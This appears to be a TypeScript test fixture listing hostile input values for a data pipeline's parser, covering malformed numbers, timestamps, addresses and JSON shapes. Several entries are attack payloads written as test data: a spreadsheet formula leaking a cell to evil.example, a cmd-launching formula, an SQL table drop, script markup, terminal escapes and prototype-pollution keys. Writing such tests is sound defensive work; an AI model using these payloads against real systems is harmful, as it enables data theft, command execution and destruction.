/** What a value is, where it is something: by the kind of column that may then hold it. */
interface Meaning {
  /** The text that it is, as JavaScript has it; only values that JSON has as texts are one. */
  readonly text?: string
  /** Finite, and exact to a double. */
  readonly number?: number
  readonly whole?: bigint
  /** As PostgreSQL prints it in UTC; `unset`: what stands for none. */
  readonly instant?: string
  /** Milliseconds. */
  readonly duration?: number
  readonly boolean?: boolean
  readonly guid?: string
  /** In canonical form. */
  readonly address?: string
  readonly subnet?: string
  /** In canonical form; `unset`: what stands for none. */
  readonly mac?: string
}

/** A value that a source may send anywhere. */
export interface Hostile extends Meaning {
  readonly name: string
  /** The JSON text, which may have bytes that are no text. */
  readonly json: Buffer
  /** What JSON has it as. */
  readonly kind: 'text' | 'number' | 'boolean' | 'null' | 'container'
  /** Whether it makes the whole document unreadable. */
  readonly isBroken?: true
  /** Whether its bytes are no UTF-8, which is an issue of the document. */
  readonly isGarbled?: true
}

/** Where a value says that there is none. */
export const UNSET = 'unset'

/** A text, by its name; its meaning beside being a text. */
function text(name: string, content: string, meaning: Meaning = {}): Hostile {
  return { name, json: Buffer.from(JSON.stringify(content)), kind: 'text', text: content, ...meaning }
}

/** A text that is its own name. */
function plain(content: string, meaning: Meaning = {}): Hostile {
  return text(content, content, meaning)
}

/** A number by its digits in JSON. */
function digits(json: string, meaning: Meaning = {}): Hostile {
  return { name: `number ${json}`, json: Buffer.from(json), kind: 'number', ...meaning }
}

/** An object or list by its JSON text. */
function container(name: string, json: string): Hostile {
  return { name, json: Buffer.from(json), kind: 'container' }
}

/** Not to be made smaller by any compression, so that no index takes it. */
function incompressible(length: number): string {
  let state = 2_463_534_242
  return Array.from({ length }, () => {
    state ^= state << 13
    state ^= state >>> 17
    state ^= state << 5
    return String.fromCharCode(0x21 + ((state >>> 0) % 90))
  }).join('')
}

const GUID = '0f8fad5b-d9cb-469f-a165-70867728950e'

const texts: readonly Hostile[] = [
  text('empty', ''),
  text('blank', ' '),
  text('NUL', 'a\0b'),
  text('only NUL', '\0'),
  text('high surrogate', 'a\ud83d'),
  text('low surrogate', '\ude00b'),
  text('surrogates the wrong way round', '\ude00\ud83d'),
  text('noncharacter', '\uffff\ufffe'),
  text('byte order mark', '\ufeffa'),
  text('other direction', 'abc\u202egpj.exe\u2066'),
  text('tab, line break and return', 'a\tb\nc\rd'),
  text('end of COPY', '\\.\n\\.'),
  text('NULL of COPY', '\\N'),
  text('escapes of COPY', '\\t\\x41\\101\\'),
  text('steering of a terminal', '\x1b[2J\x1b]0;owned\x07\x1b[31mred'),
  text('other controls', '\x01\x08\x0b\x0c\x7f\x85\u2028'),
  text('formula', `=HYPERLINK("https://evil.example/?"&A1,"click")`),
  text('formula of another kind', `@SUM(1+1)*cmd|' /C calc'!A0`),
  text('SQL', `'; drop table call_quality.records; --`),
  text('identifier in quotes', `"a""b" $$ $1 :facts`),
  text('markup', '<script>alert(1)</script><img src=x onerror=alert(1)>'),
  text('template', '$' + '{7*7}{{7*7}}%s%n'),
  text('longer than any column', 'x'.repeat(70_000)),
  text('cut within a pair', `${'z'.repeat(65_535)}\u{1f642}${'z'.repeat(9)}`),
  text('longer than any index takes', incompressible(20_000)),
  text('many signs on one letter', `a${'\u0301'.repeat(5_000)}`),
  plain('__proto__'),
  plain('constructor'),
  plain('toString'),
  plain(GUID.toUpperCase(), { guid: GUID }),
  plain(`{${GUID}}`),
  plain(`${GUID}0`),
  plain('00000000-0000-0000-0000-000000000000', { guid: '00000000-0000-0000-0000-000000000000' }),
]

const numbersAsTexts: readonly Hostile[] = [
  plain('NaN'),
  plain('nan'),
  plain('INF'),
  plain('-INF'),
  plain('Infinity'),
  plain('-Infinity'),
  plain('1e400'),
  plain('-1e400'),
  plain('1e-400', { number: 0, whole: 0n }),
  plain('0x10'),
  plain('1_000'),
  plain('1,5'),
  plain('٣'),
  plain(' 7'),
  plain('+7'),
  plain('7', { number: 7, whole: 7n }),
  plain('-7', { number: -7, whole: -7n }),
  plain('1e3', { number: 1000, whole: 1000n }),
  // sixteen digits may be a hardware address as well
  plain('9007199254740993', {
    number: 2 ** 53,
    whole: 9_007_199_254_740_993n,
    mac: '90:07:19:92:54:74:09:93',
  }),
  plain('9223372036854775808', { number: 2 ** 63 }),
  plain('9'.repeat(400)),
  plain('true', { boolean: true }),
  plain('TRUE'),
]

const numbers: readonly Hostile[] = [
  digits('1e400'),
  digits('-1e400'),
  digits('1e308', { number: 1e308 }),
  digits('-1.7976931348623157e308', { number: -1.7976931348623157e308 }),
  digits('5e-324', { number: 5e-324 }),
  digits('-0', { number: 0, whole: 0n }),
  digits('0.5', { number: 0.5 }),
  digits('-1', { number: -1, whole: -1n }),
  digits('2147483648', { number: 2 ** 31, whole: 2n ** 31n }),
  digits('-2147483649', { number: -(2 ** 31) - 1, whole: -(2n ** 31n) - 1n }),
  digits('4294967295', { number: 4_294_967_295, whole: 4_294_967_295n }),
  digits('9007199254740993', { number: 2 ** 53, whole: 9_007_199_254_740_993n }),
  digits('9223372036854775807', { number: 2 ** 63, whole: 2n ** 63n - 1n }),
  digits('-9223372036854775808', { number: -(2 ** 63), whole: -(2n ** 63n) }),
  digits('9223372036854775808', { number: 2 ** 63 }),
  digits('1e30', { number: 1e30 }),
  digits('123456789012345678901234567890', { number: Number('123456789012345678901234567890') }),
]

const instants: readonly Hostile[] = [
  plain('today'),
  plain('now'),
  plain('infinity'),
  plain('-infinity'),
  plain('epoch'),
  plain('0001-01-01T00:00:00Z', { instant: UNSET }),
  plain('9999-12-31T23:59:59.9999999Z'),
  plain('2026-02-30T00:00:00Z'),
  plain('2026-02-29T00:00:00Z'),
  plain('2028-02-29T12:00:00Z', { instant: '2028-02-29 12:00:00+00' }),
  plain('2026-06-30T23:59:60Z', { instant: '2026-07-01 00:00:00+00' }),
  plain('2026-06-30T23:59:61Z'),
  plain('2026-06-30T24:00:00Z'),
  plain('2026-06-30T12:00:00.12345678Z'),
  plain('2026-06-30T12:00:00'),
  plain('2026-06-30 12:00:00Z'),
  plain('2026-06-30T12:00:00+99:00'),
  plain('2026-06-30T12:00:00-14:00', { instant: '2026-07-01 02:00:00+00' }),
  plain('2099-12-31T23:59:59.9999999Z', { instant: '2100-01-01 00:00:00+00' }),
  plain('2014-12-31T23:59:59Z'),
  plain('0000-00-00T00:00:00Z'),
  plain('-2026-06-30T12:00:00Z'),
  plain('2026-06-30T12:00:00 BC'),
]

const durations: readonly Hostile[] = [
  plain('-PT5S'),
  plain('-PT0S', { duration: 0 }),
  plain('PT'),
  plain('P'),
  plain('PTS'),
  plain('P1Y'),
  plain('P1M'),
  plain('P1W'),
  plain('PT1.5M'),
  plain('PT0.00000001S'),
  plain('PT0.0000001S', { duration: 0.0001 }),
  plain('P99999999999D'),
  plain('PT99999999999999999999S'),
  plain('00:00:05'),
  plain('PT1E3S'),
]

const addresses: readonly Hostile[] = [
  plain('10.0.0.999'),
  plain('10.0.0'),
  plain('010.0.0.1'),
  plain('10.0.0.1:443', { address: '10.0.0.1', subnet: '10.0.0.1' }),
  plain('10.0.0.1/24', { subnet: '10.0.0.1/24' }),
  plain('10.0.0.1/33'),
  plain('[::1]', { address: '::1', subnet: '::1' }),
  plain('fe80::1%eth0', { address: 'fe80::1', subnet: 'fe80::1' }),
  plain('::ffff:10.0.0.1', { address: '10.0.0.1', subnet: '10.0.0.1' }),
  plain('2001:DB8:0:0::1', { address: '2001:db8::1', subnet: '2001:db8::1' }),
  plain('1:2:3:4:5:6:7:8:9'),
  plain('**-**-**-**-**-**'),
  plain('00-00-00-00-00-00', { mac: UNSET }),
  // eight groups may be an address as well
  plain('00:00:00:00:00:00:00:00', { mac: UNSET, address: '::', subnet: '::' }),
  plain('02:00:00:00:00:00', { mac: UNSET }),
  plain('0A1B.2C3D.4E5F', { mac: '0a:1b:2c:3d:4e:5f' }),
  plain('0a:1b:2c:3d:4e'),
  plain('0a-1b:2c-3d:4e-5f'),
]

/** How deep the deepest value is nested; more than JSON.stringify and jsonb can take. */
const DEEP = 15_000

const shapes: readonly Hostile[] = [
  { name: 'null', json: Buffer.from('null'), kind: 'null' },
  { name: 'true itself', json: Buffer.from('true'), kind: 'boolean', boolean: true },
  { name: 'false itself', json: Buffer.from('false'), kind: 'boolean', boolean: false },
  container('list', '[]'),
  container('list of lists', '[[[]],[null],[{}]]'),
  container('object', '{}'),
  container('object with a length', '{"length":0,"0":"a"}'),
  container(
    'keys of the prototype',
    '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
  ),
  container('methods', '{"toString":1,"valueOf":2,"toJSON":3,"then":4,"hasOwnProperty":5}'),
  container('keys twice', '{"id":1,"id":2,"id":{"id":3}}'),
  container('key that is no name', '{"":1,"\\u0000":2,"\\ud800":3,"a\\tb@odata.nextLink":"x"}'),
  container('deep lists', `${'['.repeat(DEEP)}${']'.repeat(DEEP)}`),
  container('deep objects', `${'{"a":'.repeat(DEEP)}1${'}'.repeat(DEEP)}`),
  {
    ...text('bytes that are no UTF-8', 'a\ufffdb'),
    json: Buffer.from('"a\xffb"', 'latin1'),
    isGarbled: true,
  },
  {
    ...text('overlong encoding', '\ufffd\ufffd'),
    json: Buffer.from('"\xc0\x80"', 'latin1'),
    isGarbled: true,
  },
  { name: 'NaN without quotes', json: Buffer.from('NaN'), kind: 'number', isBroken: true },
  { name: 'single quotes', json: Buffer.from("'a'"), kind: 'text', isBroken: true },
  { name: 'open text', json: Buffer.from('"a'), kind: 'text', isBroken: true },
]

/** Values that sources have sent, or might, where something else was expected. */
export const hostileValues: readonly Hostile[] = [
  ...texts,
  ...numbersAsTexts,
  ...numbers,
  ...instants,
  ...durations,
  ...addresses,
  ...shapes,
]
